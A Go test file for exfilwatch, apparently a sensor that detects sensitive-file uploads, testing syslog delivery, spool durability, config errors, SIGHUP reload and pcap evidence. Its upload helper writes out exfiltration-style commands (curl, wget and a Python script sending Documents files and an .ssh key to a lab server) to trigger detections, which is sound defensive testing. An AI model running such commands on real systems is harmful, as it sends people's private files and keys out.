package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"exfilwatch/sensor/output/syslog"
)

// The live tests of run's outputs: real findings (real clients uploading
// sensitive files from a test home, as in TestRunDetectsUploads) delivered
// to a real rsyslogd, kept in the spool across kill -9, kept as evidence,
// and the files reopened and the rule reloaded on SIGHUP.

// outLab is a lab with an upload server, a test home on a private tmpfs
// holding sensitive files, and the binary under test.
type outLab struct {
	*lab
	bin                      string
	root, home               string
	report, notes, key, junk string
	uploads                  int
}

func newOutLab(t *testing.T, subnet int) *outLab {
	t.Helper()
	requireRoot(t)
	if _, err := exec.LookPath("wget"); err != nil {
		t.Fatal("wget not installed: run make deps")
	}
	o := &outLab{bin: buildBinary(t), lab: newLab(t, subnet)}
	// The server answers after 500 ms: clients live long enough for their
	// sockets to be looked up (see TestRunDetectsUploads).
	o.httpServer(8080, "--delay-ms", "500")
	o.root = t.TempDir()
	o.home = filepath.Join(o.root, "home")
	os.MkdirAll(o.home, 0o755)
	if out, err := exec.Command("mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", o.home).CombinedOutput(); err != nil {
		t.Fatalf("mount tmpfs: %v %s", err, out)
	}
	t.Cleanup(func() { exec.Command("umount", "-l", o.home).Run() })
	alice := filepath.Join(o.home, "alice")
	for _, d := range []string{"Documents", ".ssh", "tmp"} {
		os.MkdirAll(filepath.Join(alice, d), 0o755)
	}
	o.report = filepath.Join(alice, "Documents", "report.pdf")
	o.notes = filepath.Join(alice, "Documents", "notes.txt")
	o.key = filepath.Join(alice, ".ssh", "id_rsa")
	o.junk = filepath.Join(o.root, "random.bin")
	os.WriteFile(o.report, append([]byte("%PDF-1.4\n"), bytes.Repeat([]byte("quarterly figures "), 1500)...), 0o644)
	os.WriteFile(o.notes, bytes.Repeat([]byte("meeting notes, not for sharing\n"), 100), 0o644)
	os.WriteFile(o.key, []byte("-----BEGIN TEST KEY (exfilwatch lab, not a real key)-----\n"+strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=\n", 40)+"-----END TEST KEY-----\n"), 0o600)
	os.WriteFile(o.junk, bytes.Repeat([]byte{0x5a}, 8000), 0o644)
	return o
}

// writeConfig writes a configuration whose sensitive classes hold the test
// home's Documents and .ssh, plus extra top-level YAML.
func (o *outLab) writeConfig(t *testing.T, path, extra string) {
	t.Helper()
	cfg := fmt.Sprintf("sensitive:\n  classes:\n    - name: documents\n      paths: [%q]\n    - name: ssh\n      paths: [%q]\n%s",
		filepath.Join(o.home, "*", "Documents"), filepath.Join(o.home, "*", ".ssh"), extra)
	if err := os.WriteFile(path, []byte(cfg), 0o644); err != nil {
		t.Fatal(err)
	}
}

// liveSensor is a running `exfilwatch run`.
type liveSensor struct {
	cmd    *exec.Cmd
	stderr *lockedBuffer
	done   chan struct{}
	err    error
}

// start runs the sensor in the lab's host namespace, watching the test
// home, and returns once it captures.
func (o *outLab) start(t *testing.T, args ...string) *liveSensor {
	t.Helper()
	s := &liveSensor{stderr: &lockedBuffer{}, done: make(chan struct{})}
	if !strings.Contains(strings.Join(args, " "), "--config") {
		cfg := filepath.Join(o.root, "sensitive.yaml")
		o.writeConfig(t, cfg, "")
		args = append([]string{"--config", cfg}, args...)
	}
	s.cmd = o.in(o.host, append([]string{o.bin, "--log-format", "json", "run", "--interface", o.hostIf, "--watch-path", o.home}, args...)...)
	s.cmd.Stderr = s.stderr
	s.cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := s.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { s.err = s.cmd.Wait(); close(s.done) }()
	t.Cleanup(func() { s.cmd.Process.Kill(); <-s.done })
	deadline := time.Now().Add(15 * time.Second)
	for !strings.Contains(s.stderr.String(), `"message":"capturing"`) {
		select {
		case <-s.done:
			t.Fatalf("run exited before capturing: %v\n%s", s.err, s.stderr)
		default:
		}
		if time.Now().After(deadline) {
			t.Fatalf("run is not capturing after 15s:\n%s", s.stderr)
		}
		time.Sleep(50 * time.Millisecond)
	}
	time.Sleep(300 * time.Millisecond) // the ring is bound once "capturing" is logged
	return s
}

// interrupt stops the sensor with SIGINT; it must exit 0.
func (s *liveSensor) interrupt(t *testing.T) {
	t.Helper()
	s.cmd.Process.Signal(syscall.SIGINT)
	select {
	case <-s.done:
	case <-time.After(30 * time.Second):
		s.cmd.Process.Kill()
		t.Fatalf("run did not stop within 30s of SIGINT:\n%s", s.stderr)
	}
	if s.err != nil {
		t.Fatalf("run: %v\n%s", s.err, s.stderr)
	}
}

// upload makes one real client upload a sensitive file (kind: curl, wget,
// python3, curl-put) or, for "junk", a non-sensitive one; it returns the
// URL path, which names the upload in the finding.
func (o *outLab) upload(t *testing.T, kind string) string {
	t.Helper()
	o.uploads++
	p := fmt.Sprintf("/upload/%s-%d", kind, o.uploads)
	url := fmt.Sprintf("http://%s:8080%s", o.remIP, p)
	var args []string
	switch kind {
	case "curl":
		args = []string{"curl", "-sS", "-o", "/dev/null", "-F", "file=@" + o.report, url}
	case "curl-put":
		args = []string{"curl", "-sS", "-o", "/dev/null", "-T", o.key, url}
	case "wget":
		args = []string{"wget", "-q", "-O", "/dev/null", "--post-file=" + o.notes, url}
	case "python3":
		script := filepath.Join(o.home, "alice", "tmp", fmt.Sprintf("collect-%d.py", o.uploads))
		os.WriteFile(script, []byte(fmt.Sprintf("import urllib.request\ndata = open(%q, \"rb\").read()\n"+
			"req = urllib.request.Request(%q, data=data, method=\"POST\")\nprint(urllib.request.urlopen(req).status)\n", o.key, url)), 0o644)
		args = []string{"python3", script}
	case "junk":
		args = []string{"curl", "-sS", "-o", "/dev/null", "--data-binary", "@" + o.junk, url}
	default:
		t.Fatalf("unknown upload kind %q", kind)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "ip", append([]string{"netns", "exec", o.host}, args...)...)
	// Each client is its own job (see TestRunDetectsUploads): clients run
	// from one process group would be one script to the rule.
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%s upload: %v %s", kind, err, out)
	}
	time.Sleep(100 * time.Millisecond)
	return p
}

// readFindings reads a JSON Lines findings file (missing: none).
func readFindings(t *testing.T, path string) []map[string]any {
	t.Helper()
	b, err := os.ReadFile(path)
	if os.IsNotExist(err) {
		return nil
	}
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]any
	for _, l := range bytes.Split(b, []byte{'\n'}) {
		if len(bytes.TrimSpace(l)) == 0 {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal(l, &m); err != nil {
			t.Fatalf("finding line %q: %v", l, err)
		}
		out = append(out, m)
	}
	return out
}

// waitFindings waits until path holds n findings.
func waitFindings(t *testing.T, s *liveSensor, path string, n int) []map[string]any {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		fs := readFindings(t, path)
		if len(fs) >= n {
			return fs
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d findings in %s after 20s, want %d:\n%s", len(fs), path, n, s.stderr)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

func str(m map[string]any, path ...string) string {
	switch v := get(m, path...).(type) {
	case string:
		return v
	case float64:
		return strconv.FormatFloat(v, 'f', -1, 64)
	case nil:
		return ""
	default:
		return fmt.Sprint(v)
	}
}

// wantSDOf is the SD element a finding's syslog message must carry,
// derived from its JSON in the findings file.
func wantSDOf(f map[string]any) map[string]string {
	return map[string]string{"rule": str(f, "rule", "id"), "severity": str(f, "exfilwatch", "severity"), "id": str(f, "event", "id"),
		"pid": str(f, "process", "pid"), "exe": str(f, "process", "executable"),
		"dst": str(f, "destination", "ip") + ":" + str(f, "destination", "port"), "bytes": str(f, "exfilwatch", "upload", "bytes")}
}

// statsField returns the last value of a numeric key (a path into the
// JSON object) in the stats and stopped lines.
func statsField(stderr string, path ...string) (int, bool) {
	v, ok := -1, false
	for _, l := range strings.Split(stderr, "\n") {
		if !strings.Contains(l, `"message":"stats"`) && !strings.Contains(l, `"message":"stopped"`) {
			continue
		}
		var m map[string]any
		if json.Unmarshal([]byte(l), &m) != nil {
			continue
		}
		if n, isNum := get(m, path...).(float64); isNum {
			v, ok = int(n), true
		}
	}
	return v, ok
}

// waitStats waits until a stats line has key satisfying ok.
func waitStats(t *testing.T, s *liveSensor, ok func(int) bool, key ...string) int {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		if v, found := statsField(s.stderr.String(), key...); found && ok(v) {
			return v
		}
		if time.Now().After(deadline) {
			t.Fatalf("no stats line with a fitting %s within 20s:\n%s", key, s.stderr)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// TestRunSyslogDelivery: three destinations (UDP, TCP, TLS verified with a
// CA made here) on a real rsyslogd; three real findings; after SIGINT each
// finding was written by rsyslog exactly once per destination, as RFC 5424
// that go-syslog parses, MSGID AN0424, its SD params those of the finding
// in the findings file and, over TCP and TLS, the MSG that very JSON. Over
// UDP the message is cut at 2048 octets (docs/syslog.md) and marked so.
func TestRunSyslogDelivery(t *testing.T) {
	o := newOutLab(t, 210)
	p := newTestPKI(t, t.TempDir(), "syslog")
	const udpPort, tcpPort, tlsPort = 5514, 10514, 6514
	rs := startRsyslogd(t, o.host, udpPort, rsyslogTCPInput(tcpPort)+rsyslogTLSInput(p, tlsPort))
	findings := filepath.Join(o.root, "findings.jsonl")
	s := o.start(t, "--findings", findings, "--spool-dir", filepath.Join(o.root, "spool"), "--stats-interval", "1s",
		"--syslog", fmt.Sprintf("udp://127.0.0.1:%d", udpPort), "--syslog", fmt.Sprintf("tcp://127.0.0.1:%d", tcpPort),
		"--syslog", fmt.Sprintf("tls://127.0.0.1:%d", tlsPort), "--syslog-ca", p.caFile)
	for _, k := range []string{"curl", "wget", "python3"} {
		o.upload(t, k)
	}
	waitFindings(t, s, findings, 3)
	// Delivered before the stop: SIGINT must not be what sends them.
	deadline := time.Now().Add(20 * time.Second)
	for {
		m := rs.messages()
		if len(m["imudp"]) >= 3 && len(m["imptcp"]) >= 3 && len(m["imtcp"]) >= 3 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("rsyslog wrote udp %d, tcp %d, tls %d of 3 within 20s:\n%s\nrsyslogd: %s", len(m["imudp"]), len(m["imptcp"]), len(m["imtcp"]), s.stderr, rs.stderr)
		}
		time.Sleep(100 * time.Millisecond)
	}
	s.interrupt(t)
	time.Sleep(300 * time.Millisecond) // a late duplicate would show now

	fs := readFindings(t, findings)
	if len(fs) != 3 {
		t.Fatalf("%d findings, want 3", len(fs))
	}
	byID := map[string]map[string]any{}
	lineOf := map[string][]byte{}
	fb, _ := os.ReadFile(findings)
	for i, l := range bytes.Split(bytes.TrimSpace(fb), []byte{'\n'}) {
		id := str(fs[i], "event", "id")
		byID[id], lineOf[id] = fs[i], l
	}
	pid := strconv.Itoa(s.cmd.ProcessState.Pid()) // ip netns exec execs the sensor in place
	msgs := rs.messages()
	for input, name := range map[string]string{"imudp": "udp", "imptcp": "tcp", "imtcp": "tls"} {
		seen := map[string]int{}
		for _, raw := range msgs[input] {
			m, err := parseSyslog5424(raw)
			if err != nil {
				t.Errorf("%s: %v", name, err)
				continue
			}
			id := m.sd["id"]
			f := byID[id]
			if f == nil {
				t.Errorf("%s: message for no finding of the file: %q", name, raw)
				continue
			}
			seen[id]++
			if derefStr(m.Appname) != syslog.AppName || derefStr(m.MsgID) != "AN0424" || derefStr(m.ProcID) != pid {
				t.Errorf("%s: APP-NAME %q MSGID %q PROCID %q, want %s AN0424 %s", name, derefStr(m.Appname), derefStr(m.MsgID), derefStr(m.ProcID), syslog.AppName, pid)
			}
			if m.Facility == nil || *m.Facility != 10 || m.Severity == nil || int(*m.Severity) != syslog.Severity(str(f, "exfilwatch", "severity")) {
				t.Errorf("%s: facility %v severity %v, want authpriv (10) and the finding's %s", name, m.Facility, m.Severity, str(f, "exfilwatch", "severity"))
			}
			want := wantSDOf(f)
			for k, v := range want {
				if m.sd[k] != v {
					t.Errorf("%s %s: SD %s=%q, findings file %q", name, id, k, m.sd[k], v)
				}
			}
			t.Logf("%s %s: %d octets, truncated=%q", name, id, len(raw), m.sd["truncated"])
			if name == "udp" && len(raw) > 2048 {
				t.Errorf("udp %s: a datagram of %d octets, over the 2048 default", id, len(raw))
			}
			if name != "udp" && len(raw) > 8192 {
				t.Errorf("%s %s: a message of %d octets, over the 8192 default", name, id, len(raw))
			}
			if cut, ok := m.sd["truncated"]; ok {
				// Cut to fit (UDP's 2048 octets; a real finding is 7–8 KB,
				// so a longer one is cut at TCP's 8192 too): the SD says
				// how long the JSON was, and the MSG is a prefix of it.
				if cut != strconv.Itoa(len(lineOf[id])) || !bytes.HasPrefix(lineOf[id], m.msg) || len(m.msg) == 0 {
					t.Errorf("%s %s: truncated=%q (JSON %d octets), MSG a prefix of it: %v", name, id, cut, len(lineOf[id]), bytes.HasPrefix(lineOf[id], m.msg))
				}
				continue
			}
			if !bytes.Equal(m.msg, lineOf[id]) {
				t.Errorf("%s %s: MSG is not the finding's JSON line:\n got %s\nwant %s", name, id, m.msg, lineOf[id])
			}
		}
		for id := range byID {
			if seen[id] != 1 {
				t.Errorf("%s: finding %s written %d times by rsyslog, want once", name, id, seen[id])
			}
		}
		if len(msgs[input]) != 3 {
			t.Errorf("%s: %d messages, want 3", name, len(msgs[input]))
		}
	}
	for _, kv := range [][2]string{{"syslog_spooled", "9"}, {"spool_depth", "0"}, {"syslog_dropped", "0"}, {"spool_errors", "0"}} {
		if v, _ := statsField(s.stderr.String(), kv[0]); strconv.Itoa(v) != kv[1] {
			t.Errorf("stopped line: %s=%d, want %s:\n%s", kv[0], v, kv[1], logLines(s.stderr.String(), "stopped"))
		}
	}
	if v, _ := statsField(s.stderr.String(), "syslog_truncated"); v < 1 {
		t.Errorf("syslog_truncated=%d: the UDP messages over 2048 octets were not counted", v)
	}
}

// TestRunSpoolSurvivesKill is the loss test: the collector is down, the
// sensor spools N real findings and is killed with SIGKILL; the collector
// comes up, a new sensor opens the same spool, and every finding must
// arrive at least once, with no more duplicates than
// sensor/output/README.md allows (MaxInflight, 4096, per broken connection
// or sensor stop: here at most the findings produced). It logs
// delivered/produced.
func TestRunSpoolSurvivesKill(t *testing.T) {
	o := newOutLab(t, 211)
	const udpPort, tcpPort = 5514, 10514
	spoolDir := filepath.Join(o.root, "spool")
	findings := filepath.Join(o.root, "findings.jsonl")
	dest := fmt.Sprintf("tcp://127.0.0.1:%d", tcpPort)
	s := o.start(t, "--findings", findings, "--spool-dir", spoolDir, "--stats-interval", "500ms", "--syslog", dest)
	kinds := []string{"curl", "wget", "python3", "curl-put", "curl", "wget"}
	for _, k := range kinds {
		o.upload(t, k)
	}
	fs := waitFindings(t, s, findings, len(kinds))
	// The spool append follows the file write: once the stats show every
	// finding spooled, kill without any chance to flush.
	waitStats(t, s, func(v int) bool { return v == len(kinds) }, "spool_depth")
	if err := s.cmd.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	<-s.done
	if !strings.Contains(s.stderr.String(), `"level":"warn"`) {
		t.Errorf("no warning about the unreachable collector:\n%s", s.stderr)
	}
	produced := map[string]bool{}
	for _, f := range fs {
		produced[str(f, "event", "id")] = true
	}

	rs := startRsyslogd(t, o.host, udpPort, rsyslogTCPInput(tcpPort))
	s2 := o.start(t, "--findings", filepath.Join(o.root, "findings2.jsonl"), "--spool-dir", spoolDir, "--stats-interval", "500ms", "--syslog", dest)
	arrived := map[string]int{}
	deadline := time.Now().Add(30 * time.Second)
	for {
		arrived = map[string]int{}
		for _, raw := range rs.messages()["imptcp"] {
			m, err := parseSyslog5424(raw)
			if err != nil {
				t.Fatal(err)
			}
			arrived[m.sd["id"]]++
		}
		all := true
		for id := range produced {
			all = all && arrived[id] > 0
		}
		if all || time.Now().After(deadline) {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	waitStats(t, s2, func(v int) bool { return v == 0 }, "spool_depth")
	s2.interrupt(t)
	time.Sleep(300 * time.Millisecond)
	arrived = map[string]int{}
	total := 0
	for _, raw := range rs.messages()["imptcp"] {
		m, err := parseSyslog5424(raw)
		if err != nil {
			t.Fatal(err)
		}
		arrived[m.sd["id"]]++
		total++
	}
	delivered, dups := 0, 0
	for id := range produced {
		if arrived[id] > 0 {
			delivered++
			dups += arrived[id] - 1
		} else {
			t.Errorf("finding %s never arrived", id)
		}
	}
	for id := range arrived {
		if !produced[id] {
			t.Errorf("message for a finding never produced: %s", id)
		}
	}
	t.Logf("loss test (kill -9 with the collector down, restart on the same spool): delivered/produced = %d/%d, %d duplicates, %d messages",
		delivered, len(produced), dups, total)
	// One sensor stop (the kill) and no broken connection: at most one
	// batch again; with the collector down none was ever written.
	if dups > 4096 {
		t.Errorf("%d duplicates, the documented bound is 4096 (MaxInflight) per sensor stop", dups)
	}
	if dups != 0 {
		t.Logf("duplicates although nothing had been written before the kill: %d", dups)
	}
}

// TestRunBadOutputConfig: a bad destination or unreadable TLS material is
// an error before capture starts, on one line; a collector that cannot be
// reached, or whose certificate does not carry the expected name, is not:
// the sensor runs, logs a retry warning, keeps the finding in the spool and
// exits 0.
func TestRunBadOutputConfig(t *testing.T) {
	requireRoot(t)
	bin := buildBinary(t)
	dir := t.TempDir()
	noCA := filepath.Join(dir, "missing-ca.pem")
	notPEM := filepath.Join(dir, "not-a-ca.pem")
	os.WriteFile(notPEM, []byte("not a certificate\n"), 0o600)
	for _, c := range []struct {
		name string
		args []string
		want string // in the error line
	}{
		{"unknown scheme", []string{"--syslog", "tcpx://127.0.0.1:514"}, `--syslog: url "tcpx://127.0.0.1:514": scheme "tcpx"`},
		{"missing port", []string{"--syslog", "tcp://127.0.0.1"}, `--syslog: url "tcp://127.0.0.1": want tcp://host:port (the port is required)`},
		{"missing CA", []string{"--syslog", "tls://127.0.0.1:6514", "--syslog-ca", noCA}, "ca_file: open " + noCA},
		{"CA not PEM", []string{"--syslog", "tls://127.0.0.1:6514", "--syslog-ca", notPEM}, "ca_file: " + notPEM},
		{"tls without CA", []string{"--syslog", "tls://127.0.0.1:6514"}, "--syslog-ca (for tls://127.0.0.1:6514): a tls:// destination needs ca_file"},
		{"relative CA", []string{"--syslog", "tls://127.0.0.1:6514", "--syslog-ca", "ca.pem"}, "--syslog-ca (for tls://127.0.0.1:6514): path \"ca.pem\" must be absolute"},
		{"CA flag without tls", []string{"--syslog", "tcp://127.0.0.1:514", "--syslog-ca", notPEM}, "--syslog-ca: only for tls:// destinations"},
	} {
		t.Run(c.name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			defer cancel()
			cmd := exec.CommandContext(ctx, bin, append([]string{"--log-format", "json", "run", "--interface", "lo", "--no-file-access",
				"--findings", filepath.Join(dir, "f.jsonl"), "--spool-dir", filepath.Join(dir, "spool")}, c.args...)...)
			var stdout, stderr bytes.Buffer
			cmd.Stdout, cmd.Stderr = &stdout, &stderr
			err := cmd.Run()
			code := -1
			if cmd.ProcessState != nil {
				code = cmd.ProcessState.ExitCode()
			}
			msg := strings.TrimSpace(stderr.String())
			if ctx.Err() != nil || (code != 1 && code != 2) {
				t.Fatalf("exit %d (%v), want 1 or 2:\n%s", code, err, msg)
			}
			if strings.Contains(msg, "capturing") || strings.Count(msg, "\n") != 0 || !strings.Contains(msg, c.want) || !strings.HasPrefix(msg, "exfilwatch: run:") {
				t.Fatalf("want one line \"exfilwatch: run: …%s…\" and no capture, got:\n%s", c.want, msg)
			}
			t.Logf("exit %d: %s", code, msg)
		})
	}

	// At run time: a closed port, and a real TLS collector whose
	// certificate does not carry the configured name.
	o := newOutLab(t, 212)
	p := newTestPKI(t, t.TempDir(), "syslog")
	const udpPort, tlsPort = 5514, 6514
	startRsyslogd(t, o.host, udpPort, rsyslogTLSInput(p, tlsPort))
	cfg := filepath.Join(o.root, "exfilwatch.yaml")
	findings := filepath.Join(o.root, "findings.jsonl")
	o.writeConfig(t, cfg, fmt.Sprintf(`outputs:
  findings:
    path: %q
  spool:
    dir: %q
  syslog:
    - url: tcp://127.0.0.1:1
    - url: tls://127.0.0.1:%d
      ca_file: %q
      server_name: wrong.test
`, findings, filepath.Join(o.root, "spool"), tlsPort, p.caFile))
	s := o.start(t, "--config", cfg, "--stats-interval", "500ms")
	o.upload(t, "curl")
	waitFindings(t, s, findings, 1)
	// Both destinations hold the finding.
	waitStats(t, s, func(v int) bool { return v == 2 }, "spool_depth")
	time.Sleep(time.Second) // a few retries
	s.interrupt(t)
	var refused, mismatch bool
	for _, l := range strings.Split(s.stderr.String(), "\n") {
		if !strings.Contains(l, `"level":"warn"`) {
			continue
		}
		refused = refused || strings.Contains(l, "tcp://127.0.0.1:1") && strings.Contains(l, "refused")
		mismatch = mismatch || strings.Contains(l, fmt.Sprintf("tls://127.0.0.1:%d", tlsPort)) && strings.Contains(l, "wrong.test")
	}
	if !refused || !mismatch {
		t.Errorf("retry warnings: connection refused %v, name mismatch %v:\n%s", refused, mismatch, s.stderr)
	}
	if v, _ := statsField(s.stderr.String(), "spool_depth"); v != 2 {
		t.Errorf("stopped: spool_depth %d, want 2 (the finding for each destination)", v)
	}
	if v, _ := statsField(s.stderr.String(), "syslog_sent"); v != 0 {
		t.Errorf("syslog_sent %d, want 0", v)
	}
	if strings.Contains(s.stderr.String(), "panic") {
		t.Errorf("panic:\n%s", s.stderr)
	}
}

// TestRunSIGHUP: a finding with an empty allowlist; the findings file is
// moved away, the configuration rewritten to allowlist that client's
// executable, SIGHUP; the same upload again is allowlisted (counted, no
// finding), and a finding of another client goes to a new file at the
// original path.
func TestRunSIGHUP(t *testing.T) {
	o := newOutLab(t, 213)
	cfg := filepath.Join(o.root, "exfilwatch.yaml")
	findings := filepath.Join(o.root, "findings.jsonl")
	o.writeConfig(t, cfg, fmt.Sprintf("allowlist: []\noutputs:\n  findings:\n    path: %q\n", findings))
	s := o.start(t, "--config", cfg, "--stats-interval", "500ms")
	first := o.upload(t, "curl")
	fs := waitFindings(t, s, findings, 1)
	exe := str(fs[0], "process", "executable")
	if str(fs[0], "url", "path") != first || exe == "" {
		t.Fatalf("first finding %v", fs[0])
	}
	rotated := findings + ".1"
	if err := os.Rename(findings, rotated); err != nil {
		t.Fatal(err)
	}
	o.writeConfig(t, cfg, fmt.Sprintf("allowlist:\n  - executable: %q\n    reason: the test's curl\noutputs:\n  findings:\n    path: %q\n", exe, findings))
	s.cmd.Process.Signal(syscall.SIGHUP)
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(s.stderr.String(), "configuration reloaded") {
		if time.Now().After(deadline) {
			t.Fatalf("no reload logged after SIGHUP:\n%s", s.stderr)
		}
		time.Sleep(50 * time.Millisecond)
	}
	if _, err := os.Stat(findings); err != nil {
		t.Errorf("SIGHUP did not reopen the findings file at %s: %v", findings, err)
	}
	o.upload(t, "curl")
	second := o.upload(t, "wget")
	fresh := waitFindings(t, s, findings, 1)
	waitStats(t, s, func(v int) bool { return v >= 1 }, "allowlisted")
	time.Sleep(500 * time.Millisecond)
	s.interrupt(t)
	old := readFindings(t, rotated)
	fresh = readFindings(t, findings)
	if len(old) != 1 || str(old[0], "url", "path") != first {
		t.Errorf("rotated file: %d findings, want only the first (%s)", len(old), first)
	}
	if len(fresh) != 1 || str(fresh[0], "url", "path") != second {
		var paths []string
		for _, f := range fresh {
			paths = append(paths, str(f, "url", "path"))
		}
		t.Errorf("new file: findings %v, want only the wget one %s", paths, second)
	}
	if v, _ := statsField(s.stderr.String(), "allowlisted"); v != 1 {
		t.Errorf("allowlisted=%d at stop, want 1", v)
	}
	if v, _ := statsField(s.stderr.String(), "findings"); v != 2 {
		t.Errorf("findings=%d at stop, want 2", v)
	}
}

// TestRunEvidence: with --evidence-dir each finding has <dir>/<event.id>/
// (0700) with packets.pcapng, host.json and finding.json (0600); tshark
// reads the capture: its TCP conversations are the finding's flows, and
// the first packet is the client's SYN.
func TestRunEvidence(t *testing.T) {
	tshark, err := exec.LookPath("tshark")
	if err != nil {
		t.Fatal("tshark not installed: run make deps")
	}
	o := newOutLab(t, 214)
	findings := filepath.Join(o.root, "findings.jsonl")
	evDir := filepath.Join(o.root, "evidence")
	s := o.start(t, "--findings", findings, "--evidence-dir", evDir, "--stats-interval", "500ms")
	o.upload(t, "curl")
	o.upload(t, "wget")
	o.upload(t, "junk") // no finding, no evidence
	waitFindings(t, s, findings, 2)
	// Written once the flows closed (or after the store's wait for them).
	waitStats(t, s, func(v int) bool { return v >= 2 }, "evidence", "findings_written")
	s.interrupt(t)
	fs := readFindings(t, findings)
	if len(fs) != 2 {
		t.Fatalf("%d findings, want 2", len(fs))
	}
	entries, err := os.ReadDir(evDir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	sort.Strings(names)
	if st, err := os.Stat(evDir); err != nil || st.Mode().Perm() != 0o700 {
		t.Errorf("evidence dir mode %v (%v), want 0700", st.Mode().Perm(), err)
	}
	var ids []string
	for _, f := range fs {
		ids = append(ids, str(f, "event", "id"))
	}
	sort.Strings(ids)
	if strings.Join(names, " ") != strings.Join(ids, " ") {
		t.Fatalf("evidence entries %v, want one per finding %v", names, ids)
	}
	for _, f := range fs {
		id := str(f, "event", "id")
		d := filepath.Join(evDir, id)
		if st, err := os.Stat(d); err != nil || !st.IsDir() || st.Mode().Perm() != 0o700 {
			t.Errorf("%s: mode %v (%v), want a 0700 directory", d, st.Mode(), err)
			continue
		}
		for _, name := range []string{"packets.pcapng", "host.json", "finding.json"} {
			st, err := os.Stat(filepath.Join(d, name))
			if err != nil || st.Mode().Perm() != 0o600 || st.Size() == 0 {
				t.Errorf("%s/%s: %v %v, want a non-empty 0600 file", id, name, st, err)
			}
		}
		var saved map[string]any
		b, _ := os.ReadFile(filepath.Join(d, "finding.json"))
		if err := json.Unmarshal(b, &saved); err != nil || str(saved, "event", "id") != id {
			t.Errorf("%s/finding.json: %v, event.id %q", id, err, str(saved, "event", "id"))
		}
		var host map[string]any
		b, _ = os.ReadFile(filepath.Join(d, "host.json"))
		if err := json.Unmarshal(b, &host); err != nil {
			t.Errorf("%s/host.json: %v", id, err)
		}
		flows, _ := get(f, "exfilwatch", "flow", "ids").([]any)
		pcap := filepath.Join(d, "packets.pcapng")
		out, err := exec.Command(tshark, "-n", "-r", pcap, "-T", "fields", "-E", "separator=,",
			"-e", "ip.src", "-e", "tcp.srcport", "-e", "ip.dst", "-e", "tcp.dstport", "-e", "tcp.flags.syn", "-e", "tcp.flags.ack").Output()
		if err != nil {
			t.Errorf("tshark -r %s: %v", pcap, err)
			continue
		}
		conv := map[string]bool{}
		lines := strings.Split(strings.TrimSpace(string(out)), "\n")
		for _, l := range lines {
			x := strings.Split(l, ",")
			if len(x) < 6 {
				t.Errorf("%s: tshark line %q", id, l)
				continue
			}
			a, b := x[0]+":"+x[1], x[2]+":"+x[3]
			if a > b {
				a, b = b, a
			}
			conv[a+" "+b] = true
		}
		client := str(f, "source", "ip") + ":" + str(f, "source", "port")
		server := str(f, "destination", "ip") + ":" + str(f, "destination", "port")
		lo, hi := client, server
		if lo > hi {
			lo, hi = hi, lo
		}
		if len(conv) != len(flows) || !conv[lo+" "+hi] {
			t.Errorf("%s: conversations %v, want the finding's %d flow(s) including %s ↔ %s", id, conv, len(flows), client, server)
		}
		if x := strings.Split(lines[0], ","); len(x) < 6 || x[0]+":"+x[1] != client || x[4] != "1" || x[5] != "0" {
			t.Errorf("%s: first packet %q, want the SYN from %s", id, lines[0], client)
		}
		t.Logf("%s (%s): %d packets, %d conversation(s)", id, str(f, "process", "name"), len(lines), len(conv))
	}
}
